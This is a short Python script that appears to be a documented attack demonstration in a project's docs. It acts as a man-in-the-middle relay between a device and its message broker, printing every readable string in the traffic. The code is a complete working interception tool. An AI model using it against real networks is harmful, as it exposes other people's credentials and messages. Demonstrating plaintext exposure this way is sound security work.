"""Attack: sit between device and broker and read along; any Wi-Fi with many users is such a place.

    python docs/attacks/wiretap.py --listen 1885 --port 1884

Point a device at port 1885.  Every piece of text on the wire is a line.
"""

import argparse
import contextlib
import re
import socket
import threading

TEXT = re.compile(rb"[\x20-\x7e]{4,}")


def pass_on(source: socket.socket, target: socket.socket) -> None:
    """Hand bytes from one side to the other and print what can be read in them."""
    with contextlib.suppress(OSError):
        while data := source.recv(65536):
            for text in TEXT.findall(data):
                print(text.decode(), flush=True)
            target.sendall(data)
    with contextlib.suppress(OSError):
        target.shutdown(socket.SHUT_RDWR)


def main() -> None:
    """Listen until Ctrl-C."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--listen", type=int, default=1885)
    parser.add_argument("--host", default="127.0.0.1")
    parser.add_argument("--port", type=int, default=1884)
    options = parser.parse_args()
    with socket.create_server(("127.0.0.1", options.listen)) as server:
        print("listening", flush=True)
        while True:
            victim, _address = server.accept()
            broker = socket.create_connection((options.host, options.port))
            for source, target in ((victim, broker), (broker, victim)):
                threading.Thread(target=pass_on, args=(source, target), daemon=True).start()


with contextlib.suppress(KeyboardInterrupt):
    main()
